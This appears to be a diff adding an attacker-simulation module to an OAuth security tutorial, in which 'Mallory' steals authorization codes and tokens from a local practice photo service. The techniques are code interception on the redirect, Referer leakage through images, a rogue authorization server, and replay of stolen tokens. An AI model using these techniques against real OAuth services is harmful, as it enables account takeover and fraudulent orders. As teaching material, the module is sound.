@@ -1,0 +1,148 @@
+"""The people of an attack: somebody with a browser, and Mallory with her tools."""
+
+import json
+import re
+from collections.abc import Mapping
+from typing import Any
+from urllib.parse import parse_qsl, urlencode, urlsplit
+
+import requests
+from requests.adapters import BaseAdapter, HTTPAdapter
+
+from oauth_tutorial.browser import drive
+from oauth_tutorial.exercises.attacks.shop import TIMEOUT, renew_tokens
+from oauth_tutorial.exercises.attacks.site import ShopSite
+from oauth_tutorial.exercises.attacks.web import Answer, Request, redirect, start
+from oauth_tutorial.notebook_browser import NotebookBrowser
+from oauth_tutorial.practice.service import PhotoBox
+
+_PICTURE = re.compile(r'<img src="([^"]+)"')
+
+
+class Browser(NotebookBrowser):
+    """A browser that loads pictures and has a history, as real ones do.
+
+    Args:
+        username: Whose account at PhotoBox the person signs in with.
+    """
+
+    def __init__(self, username: str) -> None:
+        super().__init__()
+        self.username = username
+        self.history: list[str] = []
+        self.last: requests.Response | None = None
+        self.session.hooks["response"].append(self._note)
+
+    def sign_in(self, address: str) -> requests.Response | None:
+        """Follow a link of PrintShop to PhotoBox, sign in, approve, and come back."""
+        drive(self, address, username=self.username, decision="approve")
+        return self.last
+
+    def visit(self, address: str) -> requests.Response | None:
+        """Open an address, and return the last answer of the way."""
+        self.open(address)
+        return self.last
+
+    def _note(self, answer: requests.Response, **_: object) -> None:
+        self.history.append(answer.url)
+        self.last = answer
+        may_tell = answer.headers.get("Referrer-Policy") == "unsafe-url"
+        for picture in _PICTURE.findall(answer.text):
+            headers = {"Referer": answer.url} if may_tell else {}
+            requests.get(picture, headers=headers, timeout=TIMEOUT)
+
+
+class _Trap(BaseAdapter):
+    """It stands where PrintShop should be, and keeps what the browser brings."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.caught = ""
+
+    def send(self, request: requests.PreparedRequest, *_: Any, **__: Any) -> requests.Response:
+        self.caught = request.url or ""
+        raise requests.ConnectionError("caught on the way")
+
+    def close(self) -> None:
+        """Nothing is open."""
+
+
+class Mallory(Browser):
+    """The attacker: the account of bob, a server of her own, and what she caught.
+
+    Her server is a picture of an advertisement, and EvilBox, an authorization server.
+    """
+
+    def __init__(self, photobox: PhotoBox) -> None:
+        super().__init__("bob")
+        self.photobox = photobox
+        self.received: list[Request] = []
+        self._server = start("mallory", self._answer)
+        self.address = f"http://127.0.0.1:{self._server.port}"
+
+    def catch(self, browser: Browser, shop: ShopSite) -> dict[str, str]:
+        """Let somebody sign in, and keep the answer before PrintShop has it."""
+        trap = _Trap()
+        browser.session.mount(shop.redirect_uri, trap)
+        browser.sign_in(shop.login)
+        browser.session.mount(shop.redirect_uri, HTTPAdapter())
+        return query_of(trap.caught)
+
+    def exchange(self, **form: str) -> dict[str, Any]:
+        """Send a token request of her own; nothing when PhotoBox refuses."""
+        answer = requests.post(self.photobox.token_endpoint, data=form, timeout=TIMEOUT)
+        return answer.json() if answer.status_code == 200 else {}
+
+    def renew(self, tokens: Mapping[str, Any]) -> dict[str, Any]:
+        """Use a stolen refresh token; nothing when PhotoBox refuses."""
+        return renew_tokens(dict(tokens), self.photobox.token_endpoint) if tokens else {}
+
+    def link(self, request: Mapping[str, str]) -> str:
+        """Write a link to PhotoBox's sign-in page."""
+        return f"{self.photobox.issuer}/authorize?{urlencode(request)}"
+
+    def exchange_caught(self, request: Mapping[str, str], code_verifier: str) -> dict[str, Any]:
+        """Exchange the code that came to her own server, if one did."""
+        codes = [one.query["code"] for one in self.received if "code" in one.query]
+        if not codes:
+            return {}
+        return self.exchange(
+            grant_type="authorization_code",
+            code=codes[-1],
+            redirect_uri=request["redirect_uri"],
+            client_id=request["client_id"],
+            code_verifier=code_verifier,
+        )
+
+    def see_photos(self, tokens: Mapping[str, Any]) -> requests.Response | None:
+        """Call PhotoBox's API with a stolen token, if she has one."""
+        if not tokens:
+            return None
+        headers = {"Authorization": f"Bearer {tokens['access_token']}"}
+        return requests.get(f"{self.photobox.api}/photos", headers=headers, timeout=TIMEOUT)
+
+    def order(self, tokens: Mapping[str, Any]) -> requests.Response:
+        """Order a hundred prints with a stolen token."""
+        headers = {"Authorization": f"Bearer {tokens['access_token']}"}
+        body = {"photo": 1, "copies": 100}
+        return requests.post(
+            f"{self.photobox.api}/orders", headers=headers, json=body, timeout=TIMEOUT
+        )
+
+    def stop(self) -> None:
+        """Stop her server, and close her browser."""
+        self._server.stop()
+        self.close()
+
+    def _answer(self, request: Request) -> Answer:
+        self.received.append(request)
+        if request.path == "/authorize":  # EvilBox sends the person on to PhotoBox
+            query = urlencode(request.query)
+            return redirect(f"{self.photobox.issuer}/authorize?{query}")
+        body = {"access_token": "from EvilBox", "token_type": "Bearer", "photos": []}
+        return Answer(body=json.dumps(body), headers={"Content-Type": "application/json"})
+
+
+def query_of(address: str) -> dict[str, str]:
+    """Return the parameters that an address carries."""
+    return dict(parse_qsl(urlsplit(address).query))
